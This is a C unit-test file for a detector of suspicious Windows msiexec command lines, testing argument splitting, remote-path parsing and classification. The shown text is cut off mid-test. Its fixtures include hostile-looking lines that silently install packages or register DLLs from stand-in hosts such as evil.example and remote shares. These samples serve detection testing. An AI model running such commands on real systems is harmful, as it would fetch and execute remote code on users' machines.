/* test_msiexec.c -- unit tests of src/parse/winargv.c and src/msiexec.c.
 * 1. The table tests/data/commandlines.jsonl ($TESTS_DIR, default "tests"):
 *    real msiexec command lines from public sources (the shared events, the
 *    public rules and their test data, Atomic Red Team, LOLBAS, Microsoft's
 *    documentation, vendor and admin deployment scripts), one test point per
 *    row, checked field by field: msiexec or not, suspicious or not, the
 *    reasons in order, the action and its package, the destinations.
 * 2. The argv splitter against Microsoft's own examples (CommandLineToArgvW
 *    and the C runtime table), the program-name rule, the "" rule, and its
 *    bounds (argument count, text buffer, cut inside a UTF-8 sequence).
 * 3. Remote references in every spelling the brief and DESIGN.md 5 list.
 * 4. Classifier rules that need synthetic lines (renamed copies, option
 *    glue, order, Unicode dashes, more arguments than any fixed table).
 * 5. Hostile input: very long lines, unbalanced quotes, 10,000 backslashes,
 *    invalid UTF-8, option soup; every output must stay NUL-terminated,
 *    valid UTF-8 and within its bounds. */
#include <jansson.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "msiexec.h"
#include "text.h"
#include "parse/winargv.h"
#include "tap.h"

/* ---- helpers ---------------------------------------------------------- */

/* Is s[0..n) valid UTF-8? */
static bool utf8_ok(const char *s, size_t n)
{
    for (size_t i = 0, l; i < n; i += l)
        if ((l = text_utf8_len((const uint8_t *)s + i, n - i)) == 0)
            return false;
    return true;
}

/* A field is NUL-terminated within its array and valid UTF-8. */
static bool field_ok(const char *f, size_t cap)
{
    const char *z = memchr(f, '\0', cap);
    return z != NULL && utf8_ok(f, (size_t)(z - f));
}

/* Every invariant a verdict must keep, whatever the input. */
static void check_invariants(const struct msiexec_verdict *v)
{
    CHECK(field_ok(v->package, sizeof v->package));
    CHECK(v->nreasons <= MSIEXEC_MAX_REASONS);
    CHECK(v->ndest <= MSIEXEC_MAX_DEST);
    CHECK(v->suspicious == (v->nreasons > 0));
    CHECK(v->has_dest == (v->ndest > 0));
    if (!v->is_msiexec)
        CHECK(!v->suspicious && v->ndest == 0 && v->action == 0 && v->package[0] == '\0');
    for (unsigned i = 0; i < v->nreasons && i < MSIEXEC_MAX_REASONS; i++) {
        CHECK(v->reasons[i] != NULL);
        for (unsigned j = 0; j < i; j++)
            CHECK(v->reasons[i] != v->reasons[j]);
    }
    for (unsigned i = 0; i < v->ndest && i < MSIEXEC_MAX_DEST; i++) {
        const struct msiexec_dest *d = &v->dest[i];
        CHECK(field_ok(d->scheme, sizeof d->scheme));
        CHECK(field_ok(d->host, sizeof d->host));
        CHECK(field_ok(d->share, sizeof d->share));
        CHECK(field_ok(d->path, sizeof d->path));
        CHECK(d->host[0] != '\0');
        for (const char *h = d->host; *h; h++)
            CHECK(!(*h >= 'A' && *h <= 'Z'));
    }
}

static const char *reasons_str(const struct msiexec_verdict *v, char *buf, size_t cap)
{
    size_t o = 0;
    buf[0] = '\0';
    for (unsigned i = 0; i < v->nreasons; i++) {
        int k = snprintf(buf + o, cap - o, "%s%s", i ? "," : "", v->reasons[i]);
        if (k < 0 || (size_t)k >= cap - o)
            break;
        o += (size_t)k;
    }
    return buf;
}

/* ---- 1. the table --------------------------------------------------------- */

static const char *jstr(json_t *o, const char *k)
{
    json_t *v = json_object_get(o, k);
    return json_is_string(v) ? json_string_value(v) : NULL;
}

static void table_row(json_t *r, unsigned *nalert, unsigned *nquiet)
{
    static struct msiexec_verdict v;
    char want[512], got[512];
    const char *id = jstr(r, "id"), *expect = jstr(r, "expect"), *cl = jstr(r, "command_line");
    const char *image = jstr(r, "image"), *ofn = jstr(r, "original_file_name");
    const char *action = jstr(r, "action"), *pkg = jstr(r, "package");
    json_t *reasons = json_object_get(r, "reasons"), *dest = json_object_get(r, "dest");
    json_t *more = json_object_get(r, "more_dests"), *ism = json_object_get(r, "is_msiexec");
    json_t *ren = json_object_get(r, "renamed");

    TEST_BEGIN(id != NULL ? id : "(row without id)");
    CHECK(id != NULL && expect != NULL && cl != NULL && action != NULL && json_is_array(reasons));
    CHECK(jstr(r, "source") != NULL);
    if (id != NULL && expect != NULL && cl != NULL && action != NULL && json_is_array(reasons)) {
        bool alert = strcmp(expect, "alert") == 0;
        *(alert ? nalert : nquiet) += 1;
        msiexec_classify(image, ofn, cl, &v);
        check_invariants(&v);
        CHECK_EQ(v.suspicious, alert);
        if (json_is_boolean(ism))
            CHECK_EQ(v.is_msiexec, json_is_true(ism));
        else
            CHECK(v.is_msiexec);
        if (json_is_boolean(ren))
            CHECK_EQ(v.renamed, json_is_true(ren));
        /* reasons, in order */
        size_t o = 0;
        want[0] = '\0';
        for (size_t i = 0; i < json_array_size(reasons); i++) {
            const char *s = json_string_value(json_array_get(reasons, i));
            int k = snprintf(want + o, sizeof want - o, "%s%s", i ? "," : "", s ? s : "?");
            if (k > 0 && (size_t)k < sizeof want - o)
                o += (size_t)k;
        }
        CHECK_STR(reasons_str(&v, got, sizeof got), want);
        char act[2] = { v.action, '\0' };
        CHECK_STR(act, action);
        if (pkg != NULL)
            CHECK_STR(v.package, pkg);
        if (json_is_object(dest)) {
            CHECK(v.has_dest);
            CHECK_STR(v.dest[0].scheme, jstr(dest, "scheme"));
            CHECK_STR(v.dest[0].host, jstr(dest, "host"));
            CHECK_EQ(v.dest[0].port, json_integer_value(json_object_get(dest, "port")));
            CHECK_STR(v.dest[0].share, jstr(dest, "share"));
            CHECK_STR(v.dest[0].path, jstr(dest, "path"));
            CHECK_EQ(v.dest[0].ssl, strcmp(jstr(dest, "scheme"), "https") == 0 ||
                                        (strcmp(jstr(dest, "scheme"), "webdav") == 0 &&
                                         strstr(cl, "@SSL") != NULL));
        } else {
            CHECK(!v.has_dest);
        }
        size_t nmore = json_is_array(more) ? json_array_size(more) : 0;
        CHECK_EQ(v.ndest, json_is_object(dest) ? 1 + nmore : 0);
        for (size_t i = 0; i < nmore && i + 1 < v.ndest; i++)
            CHECK_STR(v.dest[i + 1].host, json_string_value(json_array_get(more, i)));
        if (tap_fail_case)
            printf("# %s: got suspicious=%d action=%c package=[%s] reasons=%s dest=%s|%s|%u|%s|%s\n", id,
                   v.suspicious, v.action ? v.action : '-', v.package, got, v.dest[0].scheme, v.dest[0].host,
                   v.dest[0].port, v.dest[0].share, v.dest[0].path);
    }
    TEST_END();
}

static void table(void)
{
    const char *td = getenv("TESTS_DIR");
    char path[4096], *line = malloc(1 << 16);
    unsigned rows = 0, nalert = 0, nquiet = 0;
    snprintf(path, sizeof path, "%s/data/commandlines.jsonl", td != NULL && td[0] ? td : "tests");
    FILE *f = fopen(path, "r");
    TEST_BEGIN("table: tests/data/commandlines.jsonl opens");
    CHECK(f != NULL && line != NULL);
    TEST_END();
    if (f == NULL || line == NULL) {
        free(line);
        if (f != NULL)
            fclose(f);
        return;
    }
    while (fgets(line, 1 << 16, f) != NULL) {
        json_error_t err;
        json_t *r = json_loads(line, 0, &err);
        if (r == NULL) {
            TEST_BEGIN("table: a line that is not JSON");
            printf("# line %d: %s\n", err.line, err.text);
            CHECK(r != NULL);
            TEST_END();
            continue;
        }
        table_row(r, &nalert, &nquiet);
        json_decref(r);
        rows++;
    }
    fclose(f);
    free(line);
    printf("# table: %u rows, %u alert, %u no alert\n", rows, nalert, nquiet);
    TEST_BEGIN("table: at least 120 rows, both verdicts present");
    CHECK(rows >= 120);
    CHECK(nalert >= 30 && nquiet >= 30);
    TEST_END();
}

/* ---- 2. the argv splitter ------------------------------------------------ */

struct argv_case {
    const char *name, *in;
    unsigned argc;
    const char *argv[8];
    bool open_quote;
};

/* Microsoft's tables: CommandLineToArgvW's remarks and the C runtime's
 * "Results of parsing command lines" (learn.microsoft.com/cpp/cpp/
 * main-function-command-line-args); argv[0] is a fixed "x" so the rows
 * exercise the rules for later arguments. */
static const struct argv_case argv_cases[] = {
    { "ms: \"abc\" d e", "x \"abc\" d e", 4, { "x", "abc", "d", "e" }, false },
    { "ms: a\\\\b d\"e f\"g h", "x a\\\\b d\"e f\"g h", 4, { "x", "a\\\\b", "de fg", "h" }, false },
    { "ms: a\\\\\\\"b c d", "x a\\\\\\\"b c d", 4, { "x", "a\\\"b", "c", "d" }, false },
    { "ms: a\\\\\\\\\"b c\" d e", "x a\\\\\\\\\"b c\" d e", 4, { "x", "a\\\\b c", "d", "e" }, false },
    { "ms: a\"b\"\" c d (post-2008 \"\" rule)", "x a\"b\"\" c d", 2, { "x", "ab\" c d" }, true },
    { "\"\" inside quotes keeps quoting on", "x \"a\"\"b c\" d", 3, { "x", "a\"b c", "d" }, false },
    { "empty quoted argument", "x \"\" y", 3, { "x", "", "y" }, false },
    { "backslashes not before a quote are literal", "x C:\\a\\b\\ \\\\srv\\s", 3, { "x", "C:\\a\\b\\", "\\\\srv\\s" }, false },
    { "trailing backslash inside quotes escapes the quote", "x \"C:\\dir\\\" next", 2, { "x", "C:\\dir\" next" }, true },
    { "tabs separate", "x\ta\t\tb", 3, { "x", "a", "b" }, false },
    { "carets are ordinary", "x ^\"a^ b\"^", 2, { "x", "^a^ b^" }, false },
    { "trailing blanks ignored", "x a   \t", 2, { "x", "a" }, false },
    { "program name: quoted, with spaces", "\"C:\\Program Files\\x.exe\" a", 2, { "C:\\Program Files\\x.exe", "a" }, false },
    { "program name: no backslash processing", "C:\\a\\\"b c", 2, { "C:\\a\\\"b", "c" }, false },
    { "program name: text after the closing quote starts argv[1]", "\"C:\\a b\\x.exe\"/i y", 3, { "C:\\a b\\x.exe", "/i", "y" }, false },
    { "program name: quoted, unterminated", "\"C:\\a b", 1, { "C:\\a b" }, true },
    { "program name: leading blank gives an empty argv[0]", "  /i x", 3, { "", "/i", "x" }, false },
    { "program name: quotes inside an unquoted name", "C:\\a\"b\" c", 2, { "C:\\a\"b\"", "c" }, false },
    { "empty line: no arguments", "", 0, { NULL }, false },
    { "blank line: one empty program name", "   ", 1, { "" }, false },
};

static void argv_tests(void)
{
    static struct winargv a;
    for (size_t i = 0; i < sizeof argv_cases / sizeof argv_cases[0]; i++) {
        const struct argv_case *c = &argv_cases[i];
        TEST_BEGIN(c->name);
        winargv_split(c->in, strlen(c->in), &a);
        CHECK_EQ(a.argc, c->argc);
        CHECK(!a.truncated);
        CHECK_EQ(a.open_quote, c->open_quote);
        for (unsigned k = 0; k < c->argc && k < a.argc; k++)
            CHECK_STR(a.argv[k], c->argv[k]);
        TEST_END();
    }

    TEST_BEGIN("argv: NULL and a NUL before the length");
    winargv_split(NULL, 5, &a);
    CHECK_EQ(a.argc, 0);
    winargv_split("a b\0c d", 7, &a);
    CHECK_EQ(a.argc, 2);
    CHECK_STR(a.argv[1], "b");
    TEST_END();

    TEST_BEGIN("argv: more arguments than WINARGV_MAX_ARGS");
    {
        static char big[4 * (WINARGV_MAX_ARGS + 10)];
        size_t o = 0;
        for (unsigned k = 0; k < WINARGV_MAX_ARGS + 10; k++) {
            big[o++] = 'a';
            big[o++] = (char)('0' + k % 10);
            big[o++] = ' ';
        }
        big[o] = '\0';
        winargv_split(big, o, &a);
        CHECK_EQ(a.argc, WINARGV_MAX_ARGS);
        CHECK(a.truncated);
        CHECK_STR(a.argv[WINARGV_MAX_ARGS - 1], "a3");
    }
    TEST_END();

    TEST_BEGIN("argv: text longer than WINARGV_MAX_TEXT is cut, never overflowed");
    {
        static char big[WINARGV_MAX_TEXT * 2];
        memset(big, 'b', sizeof big - 1);
        big[0] = 'x';
        big[1] = ' ';
        big[sizeof big - 1] = '\0';
        winargv_split(big, sizeof big - 1, &a);
        CHECK_EQ(a.argc, 2);
        CHECK(a.truncated);
        CHECK_EQ(strlen(a.argv[1]), WINARGV_MAX_TEXT - 3);
    }
    TEST_END();

    TEST_BEGIN("argv: a cut never splits a UTF-8 sequence");
    {
        struct winargv_iter it;
        char out[6];
        size_t full = 0;
        const char *in = "x \xE2\x80\x93\xE2\x80\x93"; /* two en dashes, 6 bytes */
        winargv_begin(&it, in, strlen(in));
        CHECK(winargv_next(&it, out, sizeof out, &full));
        CHECK(winargv_next(&it, out, sizeof out, &full));
        CHECK_EQ(full, 6);
        CHECK_STR(out, "\xE2\x80\x93"); /* 5 bytes of room: the second dash is dropped whole */
        CHECK(!winargv_next(&it, out, sizeof out, &full));
    }
    TEST_END();

    TEST_BEGIN("argv: 10,000 backslashes before a quote, and without one");
    {
        static char big[10000 + 16];
        big[0] = 'x';
        big[1] = ' ';
        memset(big + 2, '\\', 10000);
        big[10002] = '"';
        big[10003] = 'q';
        big[10004] = '\0';
        struct winargv_iter it;
        static char out[8192];
        size_t full = 0;
        winargv_begin(&it, big, 10004);
        CHECK(winargv_next(&it, out, sizeof out, &full));
        CHECK(winargv_next(&it, out, sizeof out, &full));
        CHECK_EQ(full, 5001); /* 5000 backslashes, the quote opened, then q */
        CHECK(it.open_quote);
        CHECK_EQ(strlen(out), 5001);
        big[10002] = '\0';
        winargv_begin(&it, big, 10002);
        CHECK(winargv_next(&it, out, sizeof out, &full));
        CHECK(winargv_next(&it, NULL, 0, &full));
        CHECK_EQ(full, 10000);
    }
    TEST_END();
}

/* ---- 3. remote references --------------------------------------------------- */

struct ref_case {
    const char *in;
    bool remote;
    const char *reason, *scheme, *host;
    uint16_t port;
    bool ssl;
    const char *share, *path;
};

static const struct ref_case ref_cases[] = {
    { "http://Evil.Example/x.msi", true, "remote-url-argument", "http", "evil.example", 0, false, "", "/x.msi" },
    { "HTTPS://evil.example:8443/a/b.msi?x=1#f", true, "remote-url-argument", "https", "evil.example", 8443, true, "", "/a/b.msi?x=1#f" },
    { "http://[::1]:8080/x.msi", true, "remote-url-argument", "http", "::1", 8080, false, "", "/x.msi" },
    { "http://[fe80::1%25eth0]/x.msi", true, "remote-url-argument", "http", "fe80::1%25eth0", 0, false, "", "/x.msi" },
    { "http://user:pw@evil.example/x.msi", true, "remote-url-argument", "http", "evil.example", 0, false, "", "/x.msi" },
    { "http://good.example@evil.example/x.msi", true, "remote-url-argument", "http", "evil.example", 0, false, "", "/x.msi" },
    { "http://3232235777/x.msi", true, "remote-url-argument", "http", "192.168.1.1", 0, false, "", "/x.msi" },
    { "http://0xC0.0250.1.1/x.msi", true, "remote-url-argument", "http", "192.168.1.1", 0, false, "", "/x.msi" },
    { "http://192.168.257/x.msi", true, "remote-url-argument", "http", "192.168.1.1", 0, false, "", "/x.msi" },
    { "http:\\\\evil.example\\x.msi", true, "remote-url-argument", "http", "evil.example", 0, false, "", "\\x.msi" },
    { "http://evil.example", true, "remote-url-argument", "http", "evil.example", 0, false, "", "/" },
    { "http://evil.example?q", true, "remote-url-argument", "http", "evil.example", 0, false, "", "/?q" },
    { "http://evil.example:99999/x", true, "remote-url-argument", "http", "evil.example", 0, false, "", "/x" },
    { "http://10.65536/x.msi", true, "remote-url-argument", "http", "10.1.0.0", 0, false, "", "/x.msi" },
    { "\\\\[fe80::1]\\s\\x.msi", true, "unc-argument", "smb", "fe80::1", 0, false, "s", "x.msi" },
    { "ftp://ftp.example/pub/x.msi", true, "ftp-argument", "ftp", "ftp.example", 0, false, "", "/pub/x.msi" },
    { "\"http://evil.example/x.msi\" ", true, "remote-url-argument", "http", "evil.example", 0, false, "", "/x.msi" },
    { "\\\\Srv\\Share\\dir\\x.msi", true, "unc-argument", "smb", "srv", 0, false, "Share", "dir\\x.msi" },
    { "//srv/share/dir/x.msi", true, "unc-argument", "smb", "srv", 0, false, "share", "dir\\x.msi" },
    { "\\\\?\\UNC\\srv\\share\\x.msi", true, "unc-argument", "smb", "srv", 0, false, "share", "x.msi" },
    { "\\\\.\\UNC\\srv\\share\\x.msi", true, "unc-argument", "smb", "srv", 0, false, "share", "x.msi" },
    { "\\??\\UNC\\srv\\share\\x.msi", true, "unc-argument", "smb", "srv", 0, false, "share", "x.msi" },
    { "\\\\?\\GLOBALROOT\\Device\\Mup\\srv\\share\\x.msi", true, "unc-argument", "smb", "srv", 0, false, "share", "x.msi" },
    { "\\Device\\Mup\\srv\\share\\x.msi", true, "unc-argument", "smb", "srv", 0, false, "share", "x.msi" },
    { "\\\\\\srv\\share\\x.msi", true, "unc-argument", "smb", "srv", 0, false, "share", "x.msi" },
    { "\\\\fe80--1s4.ipv6-literal.net\\share\\x.msi", true, "unc-argument", "smb", "fe80::1%4", 0, false, "share", "x.msi" },
    { "\\\\2001-db8--1.IPV6-LITERAL.NET\\s\\x.msi", true, "unc-argument", "smb", "2001:db8::1", 0, false, "s", "x.msi" },
    { "\\\\10.1.2.3\\c$\\x.msi", true, "unc-argument", "smb", "10.1.2.3", 0, false, "c$", "x.msi" },
    { "\\\\host@SSL\\DavWWWRoot\\x.msi", true, "webdav-argument", "webdav", "host", 0, true, "DavWWWRoot", "/x.msi" },
    { "\\\\host@SSL@443\\DavWWWRoot\\d\\x.msi", true, "webdav-argument", "webdav", "host", 443, true, "DavWWWRoot", "/d/x.msi" },
    { "\\\\host@8080\\share\\d\\x.msi", true, "webdav-argument", "webdav", "host", 8080, false, "share", "/share/d/x.msi" },
    { "\\\\host\\DavWWWRoot\\x.msi", true, "webdav-argument", "webdav", "host", 0, false, "DavWWWRoot", "/x.msi" },
    { "\\\\host@ssl\\davwwwroot", true, "webdav-argument", "webdav", "host", 0, true, "davwwwroot", "/" },
    { "\\\\localhost@8080\\s\\x.msi", true, "webdav-argument", "webdav", "localhost", 8080, false, "s", "/s/x.msi" },
    { "file://srv/share/x.msi", true, "unc-argument", "smb", "srv", 0, false, "share", "x.msi" },
    { "file:////srv/share/x.msi", true, "unc-argument", "smb", "srv", 0, false, "share", "x.msi" },
    { "file://///srv/share/x.msi", true, "unc-argument", "smb", "srv", 0, false, "share", "x.msi" },
    { "file://host@SSL/DavWWWRoot/x.msi", true, "webdav-argument", "webdav", "host", 0, true, "DavWWWRoot", "/x.msi" },
    { "http://localhost/x.msi", true, "remote-url-argument", "http", "localhost", 0, false, "", "/x.msi" },
    /* local */
    { "file:///C:/x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "file://localhost/C:/x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "file://C:/x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "file:C:\\x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "\\\\?\\C:\\x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "\\\\.\\C:\\x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "\\??\\C:\\x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "\\\\localhost\\c$\\x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "\\\\127.0.0.1\\c$\\x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "\\\\2130706433\\c$\\x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "\\\\[::1]\\c$\\x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "\\\\::1\\c$\\x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "http:x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "C:\\http\\x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "evil.example/x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "\\root\\x.msi", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "{34DB4181-0770-4B5A-B561-68758A077B0F}", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "\\\\", false, NULL, NULL, NULL, 0, false, NULL, NULL },
    { "", false, NULL, NULL, NULL, 0, false, NULL, NULL },
};

static void ref_tests(void)
{
    for (size_t i = 0; i < sizeof ref_cases / sizeof ref_cases[0]; i++) {
        const struct ref_case *c = &ref_cases[i];
        struct msiexec_dest d;
        const char *reason = "unset";
        char name[256];
        snprintf(name, sizeof name, "remote source: %s", c->in[0] ? c->in : "(empty)");
        TEST_BEGIN(name);
        bool r = msiexec_remote_source(c->in, &d, &reason);
        CHECK_EQ(r, c->remote);
        if (c->remote && r) {
            CHECK_STR(reason, c->reason);
            CHECK_STR(d.scheme, c->scheme);
            CHECK_STR(d.host, c->host);
            CHECK_EQ(d.port, c->port);
            CHECK_EQ(d.ssl, c->ssl);
            CHECK_STR(d.share, c->share);
            CHECK_STR(d.path, c->path);
        } else if (!c->remote) {
            CHECK(reason == NULL);
        }
        TEST_END();
    }
    TEST_BEGIN("remote source: NULL arguments");
    CHECK(!msiexec_remote_source(NULL, NULL, NULL));
    CHECK(msiexec_remote_source("http://h/x", NULL, NULL));
    CHECK(msiexec_remote_sourcen("http://h/x.msi-and-more", 10, NULL, NULL));
    TEST_END();
}

/* ---- 4. classifier rules on synthetic lines ------------------------------------ */

struct cls_case {
    const char *name, *image, *ofn, *cmd;
    bool is_msiexec, renamed, suspicious;
    char action;
    const char *package, *reasons, *host; /* host of dest[0], or NULL for none */
    unsigned ndest;
};

static const struct cls_case cls_cases[] = {
    { "renamed msiexec (OriginalFileName) with a URL", "C:\\Users\\Public\\update.exe", "msiexec.exe",
      "C:\\Users\\Public\\update.exe /q /i http://evil.example/x.msi", true, true, true, 'i',
      "http://evil.example/x.msi", "remote-url-argument,renamed-msiexec", "evil.example", 1 },
    { "renamed msiexec, OriginalFileName msiexec.exe.mui", "C:\\Temp\\a.exe", "msiexec.exe.mui",
      "a.exe /y C:\\Temp\\b.dll", true, true, true, 'y', "C:\\Temp\\b.dll",
      "dll-register-argument,renamed-msiexec", NULL, 0 },
    { "renamed msiexec with a local package is not suspicious", "C:\\Temp\\a.exe", "MSIEXEC.EXE",
      "a.exe /i C:\\x.msi", true, true, false, 'i', "C:\\x.msi", "", NULL, 0 },
    { "Sysmon's \"-\" OriginalFileName counts as absent", "C:\\Windows\\System32\\msiexec.exe", "-",
      "msiexec /i http://h.example/x.msi", true, false, true, 'i', NULL, "remote-url-argument", "h.example", 1 },
    { "image from argv[0] when no image is given", NULL, NULL,
      "\"C:\\Windows\\SysWOW64\\MSIEXEC.EXE\" /i \\\\srv\\s\\x.msi", true, false, true, 'i', NULL, "unc-argument", "srv", 1 },
    { "argv[0] without .exe", NULL, NULL, "msiexec /i http://h.example/x.msi", true, false, true, 'i', NULL,
      "remote-url-argument", "h.example", 1 },
    { "image msiexec.exe, line without the program name", "C:\\Windows\\System32\\msiexec.exe", NULL,
      "/i http://h.example/x.msi /qn", true, false, true, 'i', NULL, "remote-url-argument", "h.example", 1 },
    { "not msiexec: cmd.exe", "C:\\Windows\\System32\\cmd.exe", NULL,
      "cmd.exe /c msiexec /i http://h.example/x.msi", false, false, false, 0, "", "", NULL, 0 },
    { "not msiexec: msiexec.exe.bak", "C:\\Temp\\msiexec.exe.bak", NULL,
      "msiexec.exe.bak /i http://h.example/x.msi", false, false, false, 0, "", "", NULL, 0 },
    { "glued URL: /ihttp://", NULL, NULL, "msiexec /ihttp://h.example/x.msi", true, false, true, 'i',
      "http://h.example/x.msi", "remote-url-argument", "h.example", 1 },
    { "glued URL: /i\"http://...\" (quotes vanish)", NULL, NULL, "msiexec /i\"http://h.example/x y.msi\"", true, false,
      true, 'i', "http://h.example/x y.msi", "remote-url-argument", "h.example", 1 },
    { "glued UNC: /package\\\\srv\\s\\x.msi", NULL, NULL, "msiexec /package\\\\srv\\s\\x.msi", true, false, true, 'i',
      "\\\\srv\\s\\x.msi", "unc-argument", "srv", 1 },
    { "option between /i and its package", NULL, NULL, "msiexec /i /qn http://h.example/x.msi", true, false, true,
      'i', "http://h.example/x.msi", "remote-url-argument", "h.example", 1 },
    { "two options waiting: /l*v then /i", NULL, NULL, "msiexec /l*v /i C:\\log.txt http://h.example/x.msi", true,
      false, true, 'i', "http://h.example/x.msi", "remote-url-argument", "h.example", 1 },
    { "en dash option", NULL, NULL, "msiexec \xE2\x80\x93i http://h.example/x.msi", true, false, true, 'i', NULL,
      "remote-url-argument", "h.example", 1 },
    { "horizontal bar option, mixed case", NULL, NULL, "msiexec \xE2\x80\x95PACKAGE http://h.example/x.msi", true,
      false, true, 'i', NULL, "remote-url-argument", "h.example", 1 },
    { "/quiet glued to /i", NULL, NULL, "msiexec /quiet/i http://h.example/x.msi", true, false, true, 'i', NULL,
      "remote-url-argument", "h.example", 1 },
    { "/qb-! then glued /i", NULL, NULL, "msiexec /qb-!/i http://h.example/x.msi", true, false, true, 'i', NULL,
      "remote-url-argument", "h.example", 1 },
    { "/jm with a remote package and a remote /t", NULL, NULL,
      "msiexec /jm \\\\srv\\s\\x.msi /t http://t.example/a.mst /g 1033", true, false, true, 'j', "\\\\srv\\s\\x.msi",
      "unc-argument,remote-transform-argument", "srv", 2 },
    { "/fomus with a remote package", NULL, NULL, "msiexec /fomus \\\\srv@SSL\\DavWWWRoot\\x.msi", true, false, true,
      'f', NULL, "webdav-argument", "srv", 1 },
    { "/a local then /p remote: the remote one is the package", NULL, NULL,
      "msiexec /a C:\\aip\\x.msi /p \\\\srv\\p\\fix.msp", true, false, true, 'p', "\\\\srv\\p\\fix.msp",
      "unc-argument", "srv", 1 },
    { "/update list with one remote element", NULL, NULL, "msiexec /update C:\\a.msp;https://p.example/b.msp /qn",
      true, false, true, 'p', "C:\\a.msp;https://p.example/b.msp", "remote-url-argument", "p.example", 1 },
    { "PATCH= remote", NULL, NULL, "msiexec /i C:\\x.msi PATCH=\\\\srv\\p\\a.msp /qn", true, false, true, 'i',
      "C:\\x.msi", "remote-patch-argument", "srv", 1 },
    { "TRANSFORMS= secured and embedded markers", NULL, NULL,
      "msiexec /i C:\\x.msi TRANSFORMS=:embedded.mst;@\\\\srv\\t\\a.mst", true, false, true, 'i', "C:\\x.msi",
      "remote-transform-argument", "srv", 1 },
    { "URL in other properties is not the package", NULL, NULL,
      "msiexec /i C:\\x.msi SERVERURL=https://s.example INSTALLARGS=\"--url=https://f.example\" /qn", true, false,
      false, 'i', "C:\\x.msi", "", NULL, 0 },
    { "UNC log path is not the package", NULL, NULL, "msiexec /i C:\\x.msi /log \\\\srv\\logs\\x.log", true, false,
      false, 'i', "C:\\x.msi", "", NULL, 0 },
    { "/x with a URL is not one of the actions", NULL, NULL, "msiexec /x http://h.example/x.msi /qn", true, false,
      false, 'x', "http://h.example/x.msi", "", NULL, 0 },
    { "/uninstall then /i remote: the install counts", NULL, NULL,
      "msiexec /uninstall {A} /i http://h.example/x.msi", true, false, true, 'i', "http://h.example/x.msi",
      "remote-url-argument", "h.example", 1 },
    { "/y with a remote DLL", NULL, NULL, "msiexec /y \\\\srv\\s\\x.dll", true, false, true, 'y', "\\\\srv\\s\\x.dll",
      "dll-register-argument,unc-argument", "srv", 1 },
    { "/z glued to its DLL", NULL, NULL, "msiexec /zC:\\x.dll", true, false, true, 'z', "C:\\x.dll",
      "dll-unregister-argument", NULL, 0 },
    { "same host twice is one destination", NULL, NULL,
      "msiexec /i https://h.example/x.msi TRANSFORMS=https://h.example/t.mst", true, false, true, 'i', NULL,
      "remote-url-argument,remote-transform-argument", "h.example", 1 },
    { "-Embedding then an install still counts", NULL, NULL, "msiexec -Embedding ABC /i http://h.example/x.msi",
      true, false, true, 'i', NULL, "remote-url-argument", "h.example", 1 },
    { "a transform before the package: the package's host still comes first", NULL, NULL,
      "msiexec TRANSFORMS=http://t.example/t.mst /i http://p.example/x.msi", true, false, true, 'i',
      "http://p.example/x.msi", "remote-transform-argument,remote-url-argument", "p.example", 2 },
    { "forward-slash program path that looks like an option", NULL, NULL,
      "/Windows/System32/msiexec.exe /i http://h.example/x.msi", true, false, true, 'i', NULL,
      "remote-url-argument", "h.example", 1 },
    { "backslash before the closing quote: the package swallows the rest, host intact", NULL, NULL,
      "msiexec /i \"\\\\srv\\s\\dir\\\" /qn", true, false, true, 'i', "\\\\srv\\s\\dir\" /qn",
      "unc-argument", "srv", 1 },
    { "/quietly is not /quiet (and not an action)", NULL, NULL, "msiexec /quietly x", true, false, false, 0, "", "",
      NULL, 0 },
    { "/i at the very end: action with no package", NULL, NULL, "msiexec /qn /i", true, false, false, 'i', "", "",
      NULL, 0 },
    { "every reason at once", "C:\\t\\a.exe", "msiexec.exe",
      "a.exe /i http://a.example/x /a ftp://b.example/x /j \\\\c\\s\\x /f \\\\d@SSL\\DavWWWRoot\\x "
      "/y C:\\y.dll /z C:\\z.dll TRANSFORMS=http://e.example/t PATCH=http://f.example/p", true, true, true, 'i', "http://a.example/x",
      "remote-url-argument,ftp-argument,unc-argument,webdav-argument,dll-register-argument,dll-unregister-argument,"
      "remote-transform-argument,remote-patch-argument,renamed-msiexec", "a.example", 4 },
};

static void cls_tests(void)
{
    static struct msiexec_verdict v;
    char got[512];
    for (size_t i = 0; i < sizeof cls_cases / sizeof cls_cases[0]; i++) {
        const struct cls_case *c = &cls_cases[i];
        TEST_BEGIN(c->name);
        msiexec_classify(c->image, c->ofn, c->cmd, &v);
        check_invariants(&v);
        CHECK_EQ(v.is_msiexec, c->is_msiexec);
        CHECK_EQ(v.renamed, c->renamed);
        CHECK_EQ(v.suspicious, c->suspicious);
        CHECK_EQ(v.action, c->action);
        if (c->package != NULL)
            CHECK_STR(v.package, c->package);
        CHECK_STR(reasons_str(&v, got, sizeof got), c->reasons);
        CHECK_EQ(v.ndest, c->ndest);
        if (c->host != NULL && v.ndest > 0)
            CHECK_STR(v.dest[0].host, c->host);
        TEST_END();
    }

    TEST_BEGIN("many arguments before the package are no hiding place");
    {
        static char big[20000];
        size_t o = (size_t)snprintf(big, sizeof big, "msiexec");
        for (unsigned k = 0; k < 500; k++)
            o += (size_t)snprintf(big + o, sizeof big - o, " P%u=1", k);
        snprintf(big + o, sizeof big - o, " /i http://late.example/x.msi");
        msiexec_classify(NULL, NULL, big, &v);
        check_invariants(&v);
        CHECK(v.suspicious);
        CHECK_STR(v.dest[0].host, "late.example");
    }
    TEST_END();

    TEST_BEGIN("a URL longer than every buffer: judged on its start, marked truncated");
    {
        static char big[40000];
